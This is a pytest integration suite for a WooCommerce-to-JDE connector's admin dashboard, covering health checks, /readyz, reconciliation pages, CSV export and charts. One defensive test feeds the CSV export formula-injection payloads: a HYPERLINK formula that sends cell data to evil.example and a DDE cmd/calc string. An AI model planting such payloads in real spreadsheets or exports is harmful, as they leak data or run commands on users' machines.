"""The dashboard's health strip and charts, /readyz's health facts, and the reconciliation pages,
against the real test database and Redis and a real (sandbox) AIS server started and stopped."""
from __future__ import annotations

import csv
import dataclasses
import io
import re
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from click.testing import CliRunner

from connector import deliveries, polling, posting, reconciliation, webhook_upkeep
from connector.reconciliation import Item
from connector.runtime import load_runtime
from connector.store import reconciliation as run_rows
from sandbox.ais import AisSandbox
from sandbox.woo_webhooks import signed_delivery
from tests.conftest import WEBHOOK_SECRET
from tests.integration.test_admin import _sign_in
from tests.support import query, wait_for

VOID = {"br", "input", "meta", "link", "img", "hr"}


class _Elements(HTMLParser):
    """Every element of a page with its attributes and text (enough to check a DOM contract)."""

    def __init__(self, page: str):
        super().__init__()
        self.all, self._open = [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        element = {"tag": tag, "attrs": dict(attrs), "text": ""}
        self.all.append(element)
        if tag not in VOID:
            self._open.append(element)

    def handle_startendtag(self, tag, attrs):
        self.all.append({"tag": tag, "attrs": dict(attrs), "text": ""})

    def handle_endtag(self, tag):
        for i in range(len(self._open) - 1, -1, -1):
            if self._open[i]["tag"] == tag:
                del self._open[i:]
                break

    def handle_data(self, data):
        for element in self._open:
            element["text"] += data


def select(page: str, tag: str | None = None, *, id: str | None = None, cls: str | None = None) -> list[dict]:
    return [e for e in _Elements(page).all if (tag is None or e["tag"] == tag)
            and (id is None or e["attrs"].get("id") == id)
            and (cls is None or cls in (e["attrs"].get("class") or "").split())]


def one(page: str, tag: str | None = None, **where) -> dict:
    found = select(page, tag, **where)
    assert len(found) == 1, (tag, where, len(found))
    return found[0]


@pytest.fixture
def jde():
    """A sandbox JDE AIS server (a test may stop it; stopping twice is harmless)."""
    server = AisSandbox(seed=11).start()
    yield server
    server.stop()


@pytest.fixture
def make_app(clean_db, redis_url, monkeypatch):
    """make(ais_url=…, cache_seconds=…, **settings) → (runtime, signed-in client) of an app on
    the test services, its AIS the sandbox at `ais_url` (none when None)."""
    import redis

    from web.app import create_app

    redis.Redis.from_url(redis_url).flushdb()
    made = []

    def make(*, ais_url: str | None = None, cache_seconds: float = 0.2, **settings):
        if ais_url:
            monkeypatch.setenv("SANDBOX_AIS_URL", ais_url)
        else:
            monkeypatch.delenv("SANDBOX_AIS_URL", raising=False)
        monkeypatch.setenv("CONNECTOR_HEALTH_CACHE_SECONDS", str(cache_seconds))
        rt = load_runtime()
        if settings:
            rt.settings = dataclasses.replace(rt.settings, **settings)
        made.append(rt)
        app = create_app({"TESTING": True, "RUNTIME": rt, "ENQUEUE": lambda i: True, "BROKER_CHECK": lambda: True})
        client = app.test_client()
        assert _sign_in(client).status_code == 302
        return rt, client

    yield make
    for rt in made:
        rt.db.close()


def dashboard(client) -> str:
    response = client.get("/admin/")
    assert response.status_code == 200
    return response.get_data(as_text=True)


def strip(client, part: str) -> dict:
    return one(dashboard(client), "li", id=f"health-{part}")


def status_of(client, part: str) -> str:
    return strip(client, part)["attrs"]["class"]


def _order(fixture_payload, woo_id: int, paid: datetime) -> dict:
    gmt = paid.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S")
    return fixture_payload("order-727") | {"id": woo_id, "number": str(woo_id), "date_created_gmt": gmt,
                                           "date_modified_gmt": gmt, "date_paid_gmt": gmt}


def _receive(rt, client, document) -> int:
    """The order as a signed webhook through the receiver, processed; its row id."""
    headers, body = signed_delivery(document, topic="order.updated", secret=WEBHOOK_SECRET)
    delivery_id = client.post("/webhooks/woocommerce", data=body, headers=headers).json["delivery_id"]
    with rt.db.transaction() as cur:
        return deliveries.process(cur, delivery_id, posting_statuses=rt.mapping.posting.statuses).row_id


def _post(rt, row_id) -> str:
    return posting.post_order(rt.db, rt.mapping, rt.ais_client, row_id, lease_seconds=60).outcome


def _julian(day: date) -> str:
    return f"{(day.year - 1900) // 100}{day.year % 100:02d}{day.timetuple().tm_yday:03d}"


# -- the strip: JDE ---------------------------------------------------------------------------

def test_health_jde_reachable_then_unreachable_once_ais_stops(make_app, jde):
    rt, client = make_app(ais_url=jde.url, cache_seconds=0.2)
    rt.ais_session.token()   # a login: the token's age and the user's date format become known
    li = strip(client, "jde")
    assert li["attrs"]["class"] == "ok"
    assert "reachable" in li["text"] and "EnterpriseOne" in li["text"]
    assert re.search(r"token \d+ s old", li["text"])
    assert "dd.MM.yyyy" in li["text"]
    jde.stop()
    # Red on the first page load after the cached answer expires.
    li = wait_for(lambda: (found := strip(client, "jde"))["attrs"]["class"] == "bad" and found, timeout=10,
                  what="the JDE strip to turn red")
    assert "unreachable" in li["text"] and "cannot connect" in li["text"]


def test_health_jde_probe_is_cached_so_page_loads_do_not_hammer_ais(make_app, jde):
    rt, client = make_app(ais_url=jde.url, cache_seconds=15)
    for _ in range(4):
        assert status_of(client, "jde") == "ok"
    assert client.get("/readyz").json["health"]["jde"]["status"] == "ok"
    # One GET, without a token: no login, no validation.
    assert jde.stats()["calls"] == {"/jderest/v2/defaultconfig": 1} and jde.stats()["token_requests"] == 0


def test_health_jde_bad_during_a_proxy_outage_and_ok_after(make_app, jde):
    rt, client = make_app(ais_url=jde.url, cache_seconds=0)
    jde.outage(60, "proxy_503")
    li = strip(client, "jde")
    assert li["attrs"]["class"] == "bad" and "answered 503" in li["text"]
    jde.end_outage()
    assert status_of(client, "jde") == "ok"


def test_health_jde_bad_while_the_breaker_is_open(make_app, jde):
    rt, client = make_app(ais_url=jde.url)
    for _ in range(rt.settings.breaker_threshold):
        rt.breaker.record_outage("AIS answered 503")
    li = strip(client, "jde")
    assert li["attrs"]["class"] == "bad" and "unreachable" in li["text"] and "since" in li["text"]
    assert "AIS answered 503" in li["text"] and "posting waits" in li["text"]


def test_health_jde_unknown_without_an_ais_server(make_app):
    rt, client = make_app(ais_url=None)
    li = strip(client, "jde")
    assert li["attrs"]["class"] == "unknown" and "no AIS server to ask" in li["text"]


# -- the strip: WooCommerce, poll, posting, queues --------------------------------------------

def test_health_woo_ok_once_a_webhook_arrives(make_app, fixture_payload):
    rt, client = make_app()
    li = strip(client, "woo")
    assert li["attrs"]["class"] == "unknown" and "no webhook received yet" in li["text"]
    assert "CONNECTOR_PUBLIC_URL is not set" in li["text"]
    _receive(rt, client, _order(fixture_payload, 8101, datetime.now(timezone.utc)))
    li = strip(client, "woo")
    assert li["attrs"]["class"] == "ok" and "last webhook received" in li["text"]


def test_health_woo_bad_when_the_webhook_upkeep_fails(make_app):
    rt, client = make_app(public_url="https://connector.example.com")
    with pytest.raises(Exception):
        webhook_upkeep.run(rt)   # no shop to reach: WOO_STORE_URL is not set
    li = strip(client, "woo")
    assert li["attrs"]["class"] == "bad" and "webhook upkeep failing" in li["text"]
    assert "WOO_STORE_URL is not set" in li["text"]


def test_health_poll_ok_with_what_it_found_then_bad_when_it_fails(make_app):
    from connector.embedded import free_port
    from connector.woo.client import WooClient, WooError
    from sandbox.woo_store import WooStoreServer

    rt, client = make_app()
    assert status_of(client, "poll") == "unknown"

    def poll(woo):
        return polling.poll_orders(rt.db, woo, source=rt.mapping.store.source,
                                   posting_statuses=rt.mapping.posting.statuses, lease_seconds=60)

    with WooStoreServer(seed=3, source_url=rt.mapping.store.source) as shop:
        shop.generate(5, seed=3)
        poll(WooClient(shop.url, *shop.auth))
    li = strip(client, "poll")
    assert li["attrs"]["class"] == "ok" and "5 orders seen, 5 new or changed" in li["text"]
    with pytest.raises(WooError):
        poll(WooClient(f"http://127.0.0.1:{free_port()}", "ck", "cs"))
    li = strip(client, "poll")
    assert li["attrs"]["class"] == "bad" and "failing since" in li["text"] and "unreachable" in li["text"]
    assert "last good poll" in li["text"]


def test_health_posting_ok_after_a_posting_bad_when_an_order_needs_a_person(make_app, jde, fixture_payload):
    rt, client = make_app(ais_url=jde.url)
    assert status_of(client, "posting") == "unknown"
    row_id = _receive(rt, client, _order(fixture_payload, 8201, datetime.now(timezone.utc)))
    assert _post(rt, row_id) == "posted"
    li = strip(client, "posting")
    assert li["attrs"]["class"] == "ok" and "WC-8201 as document" in li["text"]
    row_id = _receive(rt, client, _order(fixture_payload, 8202, datetime.now(timezone.utc)))
    with rt.db.transaction() as cur:
        cur.execute("UPDATE orders SET state = 'needs_attention', last_error = 'JDE refused it' WHERE id = %s",
                    (row_id,))
    li = strip(client, "posting")
    assert li["attrs"]["class"] == "bad" and "1 order needs a person" in li["text"]


def test_health_queues_ok_when_nothing_waits_bad_when_a_delivery_waits_past_the_lease(make_app, fixture_payload):
    rt, client = make_app()
    _receive(rt, client, _order(fixture_payload, 8301, datetime.now(timezone.utc)))
    li = strip(client, "queues")
    assert li["attrs"]["class"] == "ok" and "celery" in li["text"] and "posting" in li["text"]
    headers, body = signed_delivery(_order(fixture_payload, 8302, datetime.now(timezone.utc)), topic="order.updated",
                                    secret=WEBHOOK_SECRET)
    client.post("/webhooks/woocommerce", data=body, headers=headers)   # stored; no worker takes it
    assert status_of(client, "queues") == "ok"                           # a fresh one is just waiting
    with rt.db.transaction() as cur:
        cur.execute("UPDATE deliveries SET received_at = now() - interval '1 hour' WHERE state IN ('received', 'queued')")
    li = strip(client, "queues")
    assert li["attrs"]["class"] == "bad" and "1 webhook deliveries unprocessed since" in li["text"]


# -- /readyz --------------------------------------------------------------------------------

def test_readyz_stays_ready_but_says_degraded_while_ais_is_down(make_app, jde):
    rt, client = make_app(ais_url=jde.url, cache_seconds=0)
    response = client.get("/readyz")
    assert response.status_code == 200 and response.json["status"] == "ready" and response.json["degraded"] == []
    assert response.json["health"]["jde"]["status"] == "ok" and response.json["jde"].startswith("reachable: AIS ")
    jde.stop()
    response = client.get("/readyz")
    # Webhooks are still taken and kept while JDE is down: 200, with what is degraded.
    assert response.status_code == 200 and response.json["status"] == "degraded"
    assert response.json["degraded"] == ["jde"] and response.json["jde"].startswith("unreachable since ")
    assert set(response.json["health"]) == {"jde", "woo", "poll", "posting", "queues", "reconciliation"}


def test_readyz_postgres_down_is_503_with_the_facts_it_could_read(make_app):
    from connector.runtime import Runtime
    from web.app import create_app

    rt, _ = make_app()
    dead = Runtime(settings=rt.settings, mapping=rt.mapping, database_url="postgresql://postgres@127.0.0.1:1/none",
                   redis_url=rt.redis_url)
    response = create_app({"RUNTIME": dead, "ENQUEUE": lambda i: True, "BROKER_CHECK": lambda: True}
                          ).test_client().get("/readyz")
    assert response.status_code == 503 and response.json["status"] == "unavailable"
    assert response.json["health"]["posting"]["status"] == "unknown"
    assert "Postgres could not be read" in response.json["health"]["posting"]["detail"]


# -- reconciliation: strip, pages, CSV ------------------------------------------------------------

def test_reconciliation_findings_linked_to_orders_with_replay_or_instruction(make_app, jde, fixture_payload,
                                                                            monkeypatch):
    from connector import runtime as runtimes
    from connector.cli import main

    rt, client = make_app(ais_url=jde.url)
    paid = datetime.now(timezone.utc) - timedelta(hours=1)
    rows = {woo_id: _receive(rt, client, _order(fixture_payload, woo_id, paid)) for woo_id in (9101, 9102, 9103, 9104)}
    assert [_post(rt, rows[w]) for w in (9101, 9102, 9103)] == ["posted"] * 3
    jde.service.delete_batch("WC-9101")                       # missing_in_jde
    jde.service.set_amount("WC-9102", 1, "1.00")              # amount_differs
    today = paid.astimezone(rt.mapping.store.timezone).date()
    jde.service.insert_f0911([{"KCO": "00001", "DCT": "JE", "DOC": 900002, "DGJ": _julian(today), "JELN": n,
                               "ANI": account, "AA": amount, "VINV": "WC-999999", "LT": "AA"}
                              for n, (account, amount) in enumerate([("M30.1110.WEB", "50.00"),
                                                                     ("M30.4010", "-50.00")], 1)])
    # 9104 is paid and never posted: not_posted.
    run = reconciliation.reconcile(rt.db, rt.ais_client(), rt.mapping, date_from=today - timedelta(days=3),
                                   date_to=today, settle_seconds=0)
    assert {i.kind for i in run.items} == {"missing_in_jde", "amount_differs", "unknown_in_jde", "not_posted"}

    li = strip(client, "reconciliation")
    assert li["attrs"]["class"] == "bad" and "4 discrepancies" in li["text"]
    page = dashboard(client)
    assert one(page, "a", id="last-run")["attrs"]["href"] == f"/admin/reconciliation/{run.run_id}"
    runs = client.get("/admin/reconciliation").get_data(as_text=True)
    assert "4" in one(runs, "table", id="runs")["text"]
    assert [a["attrs"]["href"] for a in select(runs, "a", cls="run-link")] == [f"/admin/reconciliation/{run.run_id}"]

    page = client.get(f"/admin/reconciliation/{run.run_id}").get_data(as_text=True)
    assert "<script" not in page and " style=" not in page
    kinds = ("missing_in_jde", "amount_differs", "unknown_in_jde", "not_posted")
    findings = {next(k for k in kinds if row["text"].startswith(k)): row for row in select(page, "tr", cls="finding")}
    assert set(findings) == {"missing_in_jde", "amount_differs", "unknown_in_jde", "not_posted"}
    links = {a["attrs"]["href"] for a in select(page, "a", cls="order-link")}
    assert links == {"/admin/orders/9101", "/admin/orders/9102", "/admin/orders/9104"}   # 999999 is no order here
    replays = {a["attrs"]["href"] for a in select(page, "a", cls="replay")}
    assert replays == {"/admin/orders/9101/replay", "/admin/orders/9104/replay"}
    assert "investigate in JDE" in findings["amount_differs"]["text"]
    assert "find who posted it" in findings["unknown_in_jde"]["text"]
    assert "50.00 USD" in findings["unknown_in_jde"]["text"]
    assert one(page, "a", id="csv")["attrs"]["href"] == f"/admin/reconciliation/{run.run_id}.csv"

    # The CSV is the one `connector reconcile --format csv` writes for the same findings.
    monkeypatch.setattr(runtimes, "_current", None)
    cli = CliRunner().invoke(main, ["reconcile", "--from", str(today - timedelta(days=3)), "--to", str(today),
                                    "--format", "csv"])
    assert cli.exit_code == 1, cli.output
    monkeypatch.setattr(runtimes, "_current", None)
    [[cli_run]] = [[r["id"]] for r in query(rt.database_url, "SELECT max(id) AS id FROM reconciliation_runs")]
    response = client.get(f"/admin/reconciliation/{cli_run}.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    web_rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cli_rows = list(csv.reader(io.StringIO(cli.stdout)))
    assert web_rows[0] == cli_rows[0] == ["kind", "batch", "order", "expected", "found", "documents", "detail"]
    # (The command leaves out 9104: it changed within the last 5 minutes, so it may be in flight.)
    assert sorted(web_rows[1:]) == sorted(cli_rows[1:]) and [r[0] for r in sorted(web_rows[1:])] == \
        ["amount_differs", "missing_in_jde", "unknown_in_jde"]


def test_reconciliation_failed_run_shows_red_with_its_reason(make_app, jde):
    rt, client = make_app(ais_url=jde.url)
    jde.stop()
    today = date.today()
    with pytest.raises(Exception):
        reconciliation.reconcile(rt.db, rt.ais_client(), rt.mapping, date_from=today - timedelta(days=3),
                                 date_to=today)
    [run] = query(rt.database_url, "SELECT * FROM reconciliation_runs")
    assert run["state"] == "failed" and run["error"]
    li = strip(client, "reconciliation")
    assert li["attrs"]["class"] == "bad" and "failed" in li["text"] and run["error"][:40] in li["text"]
    page = dashboard(client)
    assert "None discrepancies" not in page and "None" not in li["text"]
    page = client.get(f"/admin/reconciliation/{run['id']}").get_data(as_text=True)
    state = one(page, "p", id="run-state")
    assert state["attrs"]["class"] == "bad" and "Failed" in state["text"] and run["error"][:40] in state["text"]
    assert "None" not in page and not select(page, "tr", cls="finding")
    runs = client.get("/admin/reconciliation").get_data(as_text=True)
    [row] = [tr for tr in select(runs, "tr") if run["error"][:40] in tr["text"]]
    assert row["attrs"]["class"] == "bad" and "failed" in row["text"]


def test_reconciliation_done_without_discrepancy_is_green(make_app):
    rt, client = make_app()
    with rt.db.transaction() as cur:
        run_id = run_rows.start_run(cur, date_from=date.today() - timedelta(days=3), date_to=date.today())
        run_rows.finish_run(cur, run_id, state="done", ais_calls=1, jde_lines=0, entries_checked=0, discrepancies=0)
    li = strip(client, "reconciliation")
    assert li["attrs"]["class"] == "ok" and "no discrepancy" in li["text"]
    page = client.get(f"/admin/reconciliation/{run_id}").get_data(as_text=True)
    assert one(page, "p", id="run-state")["attrs"]["class"] == "ok"


@pytest.mark.parametrize("cell, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("WC-1 was posted", "WC-1 was posted"),
])
def test_reconciliation_csv_neutralises_formulas(make_app, cell, written):
    rt, client = make_app()
    with rt.db.transaction() as cur:
        run_id = run_rows.start_run(cur, date_from=date(2026, 11, 1), date_to=date(2026, 11, 30))
        run_rows.add_items(cur, run_id, [Item("unknown_in_jde", cell, batch_number=cell, found=Decimal("-5.5"),
                                              documents=(cell,))])
        run_rows.finish_run(cur, run_id, state="done", ais_calls=1, jde_lines=1, entries_checked=0, discrepancies=1)
    [header, row] = list(csv.reader(io.StringIO(client.get(f"/admin/reconciliation/{run_id}.csv").get_data(
        as_text=True))))
    record = dict(zip(header, row))
    assert record["batch"] == record["detail"] == record["documents"] == written
    assert record["found"] == "-5.50"   # a number stays a number


def test_reconciliation_runs_are_paginated_newest_first(make_app):
    rt, client = make_app()
    with rt.db.transaction() as cur:
        ids = [run_rows.start_run(cur, date_from=date(2026, 11, 1), date_to=date(2026, 11, 3)) for _ in range(55)]
    first = client.get("/admin/reconciliation").get_data(as_text=True)
    second = client.get("/admin/reconciliation?page=2").get_data(as_text=True)
    hrefs = [a["attrs"]["href"] for page in (first, second) for a in select(page, "a", cls="run-link")]
    assert hrefs == [f"/admin/reconciliation/{i}" for i in reversed(ids)]
    assert len(select(first, "a", cls="run-link")) == 50 and "page 1 of 2" in first
    assert one(first, "a", id="nav-reconciliation")["attrs"]["href"] == "/admin/reconciliation"


@pytest.mark.parametrize("path", ["/admin/reconciliation/424242", "/admin/reconciliation/424242.csv"])
def test_reconciliation_unknown_run_is_404(make_app, path):
    _, client = make_app()
    assert client.get(path).status_code == 404


@pytest.mark.parametrize("path", ["/admin/reconciliation", "/admin/reconciliation/1", "/admin/reconciliation/1.csv"])
def test_reconciliation_pages_need_a_login(app, path):
    response = app.test_client().get(path)
    assert response.status_code == 302 and "/admin/login" in response.headers["Location"]


# -- charts ---------------------------------------------------------------------------------

def test_charts_show_orders_posted_and_amounts_in_woocommerce_and_jde(make_app, jde, fixture_payload):
    rt, client = make_app(ais_url=jde.url)
    paid = datetime.now(timezone.utc) - timedelta(hours=1)
    rows = [_receive(rt, client, _order(fixture_payload, woo_id, paid)) for woo_id in (9201, 9202, 9203)]
    assert [_post(rt, row_id) for row_id in rows[:2]] == ["posted", "posted"]   # the third waits
    day = paid.astimezone(rt.mapping.store.timezone).date().isoformat()
    page = dashboard(client)
    assert "<script" not in page and " style=" not in page
    orders = one(page, "svg", id="chart-orders")
    amounts = one(page, "svg", id="chart-amounts")
    assert "Orders posted to JDE per GL day" in orders["text"] and "Amount paid in WooCommerce" in amounts["text"]
    titles = [e["text"] for e in select(page, "title")]
    assert f"{day} · posted to JDE: 2 orders" in titles
    assert f"{day} · WooCommerce: 88.05 USD" in titles and f"{day} · JDE: 58.70 USD" in titles
    assert len(select(page, "rect")) >= 3 * 30   # a bar per day and series
